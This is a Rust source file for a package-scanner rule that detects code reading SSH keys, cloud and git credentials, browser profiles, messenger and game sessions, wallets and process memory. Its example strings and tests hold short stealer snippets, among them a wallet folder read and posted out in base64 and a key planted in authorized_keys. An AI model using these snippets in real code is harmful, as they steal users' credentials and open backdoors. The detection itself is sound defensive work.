//! Rule `sensitive-file-read`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// The code names files that hold credentials: SSH keys, cloud credentials (.aws, gcloud,
    /// .kube, .azure), .git-credentials, .netrc, .docker/config.json, browser profiles (Login
    /// Data, Local State, leveldb stores, `.binarycookies` jars), the session stores of desktop
    /// messengers and games (Telegram `tdata`, Discord's Local Storage, Roblox Studio's session
    /// cookie, Steam's `loginusers.vdf`), wallet files and extension stores, the macOS keychain,
    /// another process's memory. `.npmrc` alone is `medium` (package tools read it); several
    /// kinds together are a stealer's shopping list (`critical`), and so is a store walked and
    /// read file by file in a file that uses the network (a directory copied out whole), and
    /// reading another process's memory through `/proc/PID/mem` (CI runner secret scraping).
    id: "sensitive-file-read",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemRead),
    title: "reads credential, browser or wallet files",
    incident: "eslint-scope 3.7.2 read ~/.npmrc (2018); BeaverTail (2023-2025) walks browser and wallet profiles",
    case_file: "index.js",
    flag: ["const f = path.join(os.homedir(), '.ssh', 'authorized_keys'); fs.appendFileSync(f, 'ssh-ed25519 AAAA k@h\\n')",
           "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
           "read(home + '/.aws/credentials')",
           "for (const n of fs.readdirSync(path.join(os.homedir(), '.ssh'))) keys.push(fs.readFileSync(n))",
           "const dir = path.join(os.homedir(), '.aws'); fs.readdirSync(dir)",
           "const p = `${local}/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn`",
           "const out = cp.execSync('reg query \"HKCU\\\\Software\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com\" /v .ROBLOSECURITY').toString()",
           "const tg = path.join(appData, 'Telegram Desktop', 'tdata'); fs.readdirSync(tg)",
           "const d = path.join(base, 'discordptb', 'Local Storage', 'leveldb')",
           "const jar = path.join(os.homedir(), 'Library/HTTPStorages/com.Roblox.RobloxPlayer.binarycookies')",
           "const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))"],
    pass: ["// see man sshd: authorized_keys\nfs.writeFileSync(path.join(dir, 'known.json'), '{}')",
           // psl 1.15.0: the public suffix list names domains under the .aws TLD
           "module.exports = [\"s3-website.us-west-2.amazonaws.com\", \"labeling.ap-south-1.sagemaker.aws\", \"ngrok.io\"]",
           "const cfg = readConfig('settings.json')", "// see ~/.config/app/settings.json",
           // a Roblox API client sends the cookie its user gives it
           "headers.cookie = `.ROBLOSECURITY=${cookie}`; https.get({ host: 'users.roblox.com', headers })",
           "const store = path.join(app.getPath('userData'), 'Local Storage')"],
}

/// (label, pattern) of credential stores.
const TARGETS: &[(&str, &str)] = &[
    (
        "ssh keys",
        r"\.ssh[/\\'\x22`]|\bid_(rsa|ed25519|ecdsa|dsa)\b",
    ),
    (
        // `.aws` is a directory only as a whole path segment: `'.aws'`, `~/.aws'`; a domain
        // ending in .aws (`"labeling.ap-south-1.sagemaker.aws"` in psl 1.15.0's public suffix
        // list) is not
        "cloud credentials",
        r"\.aws[/\\]credentials|[/\\~'\x22`]\.aws['\x22`]|\.config[/\\]gcloud|application_default_credentials|\.kube[/\\]config|\.azure[/\\]",
    ),
    (
        "git credentials",
        r"\.git-credentials|\.netrc\b|extraheader",
    ),
    ("docker credentials", r"\.docker[/\\]config\.json"),
    (
        "browser profiles",
        r"(?i)Login Data['\x22`]|Local Extension Settings|Local Storage[/\\]+leveldb|Local Storage['\x22`]\s*,\s*['\x22`]leveldb\b|User Data[/\\]+Default|User Data['\x22`]|\.binarycookies\b",
    ),
    (
        // The session stores of desktop messengers and games, as a path or as the pieces of a
        // `path.join`: Telegram's `tdata`, Discord's Local Storage, the Roblox session cookie
        // kept by Roblox Studio (registry key or cookie file), Steam's login files.
        "app sessions",
        r"(?i)Telegram Desktop(['\x22`]\s*,\s*['\x22`]|[/\\]+)tdata\b|\bdiscord(canary|ptb)?(['\x22`]\s*,\s*['\x22`]|[/\\]+)Local Storage\b|RobloxStudioBrowser|com\.roblox\.[\w.]*cookies|loginusers\.vdf",
    ),
    (
        "wallets",
        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum(['\x22`]\s*,\s*['\x22`]|[/\\])wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
    ),
    ("keychain", r"login\.keychain"),
    (
        "process memory",
        r"/proc/['\x22`+\s$\{\w.]*[/]?mem\b|/proc/\$\{[^}]+\}/mem|/maps['\x22`]",
    ),
    ("shell history", r"\.bash_history|\.zsh_history"),
];

/// How far (in bytes) after a directory listing a file read still belongs to the walk.
const WALK_WINDOW: u32 = 1_500;

/// Whether the file walks directories and reads the files it lists: a read within a few lines
/// after a listing (`readdirSync(dir)` … `readFileSync(path.join(dir, name))`). Beside a
/// credential store and network code, that is a store copied out whole.
fn walks_and_reads(f: &crate::package::FileCtx) -> bool {
    let Some(js) = &f.js else { return false };
    let method = |p: &str| {
        p.strip_prefix("fs.promises.")
            .or_else(|| p.strip_prefix("fs/promises."))
            .or_else(|| p.strip_prefix("fs."))
            .map(str::to_string)
    };
    let lists: Vec<u32> = js
        .calls
        .iter()
        .filter(|c| {
            method(&c.path).is_some_and(|m| m.starts_with("readdir") || m.starts_with("opendir"))
        })
        .map(|c| c.off)
        .collect();
    !lists.is_empty()
        && js.calls.iter().any(|c| {
            method(&c.path).is_some_and(|m| m.starts_with("readFile") || m == "createReadStream")
                && lists.iter().any(|&l| l <= c.off && c.off - l < WALK_WINDOW)
        })
}

fn check(pkg: &Package, out: &mut Emitter) {
    static RES: std::sync::LazyLock<Vec<(&str, crate::rules::gate::Re)>> =
        std::sync::LazyLock::new(|| {
            TARGETS
                .iter()
                .map(|(l, p)| (*l, crate::rules::compile(p)))
                .collect()
        });
    let npmrc = crate::regex!(r"\.npmrc\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        // Planting a key in authorized_keys is a backdoor, never a library's job.
        let authorized_keys = crate::regex!(r#"['"`][^'"`\n]*authorized_keys"#);
        if authorized_keys.is_match(text)
            && let Some(c) = f.js.as_ref().and_then(|js| {
                js.calls
                    .iter()
                    .find(|c| crate::rules::is_file_write(&c.path))
            })
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                c.off,
                "writes an SSH public key into ~/.ssh/authorized_keys (a remote-login backdoor)",
            );
            continue;
        }
        let mut kinds = Vec::new();
        let mut first: Option<usize> = None;
        for (label, re) in RES.iter() {
            if let Some(m) = re.find(text) {
                kinds.push(*label);
                first = Some(first.map_or(m.start(), |f| f.min(m.start())));
            }
        }
        let npm = npmrc.find(text);
        if kinds.is_empty() {
            if let Some(m) = npm {
                let off = if m.start() < f.text.len() {
                    m.start() as u32
                } else {
                    0
                };
                out.hit_sev(
                    Severity::Medium,
                    pkg,
                    f,
                    off,
                    "reads the npm configuration (.npmrc), which may hold registry tokens",
                );
            }
            continue;
        }
        if npm.is_some() {
            kinds.push("npm tokens");
        }
        let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
        let net = super::has_network(f);
        let sev = if net && (kinds.len() >= 3 || walks_and_reads(f))
            || kinds.contains(&"process memory")
                && crate::regex!(
                    r"/proc/\$\{[^}]+\}/mem|/proc/['\x22`]\s*\+\s*\w+\s*\+\s*['\x22`]/mem"
                )
                .is_match(text)
        {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("reads credential stores: {}", kinds.join(", ")),
        );
    }
}

#[cfg(test)]
mod walk_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    #[test]
    fn a_wallet_folder_walked_and_read_beside_network_code_is_critical() {
        let src = "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))";
        let hits = run(&super::RULE, "index.js", src);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn a_wallet_folder_only_listed_beside_network_code_stays_high() {
        // A wallet app's helper that counts the wallet files and checks for updates.
        let pad = ".".repeat(1600);
        let src = format!(
            "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const n = fs.readdirSync(w).length; https.get('https://updates.example.com/v', (r) => r.resume());\n/* {pad} */\nconst cfg = fs.readFileSync(path.join(__dirname, 'config.json'));"
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
    }
}
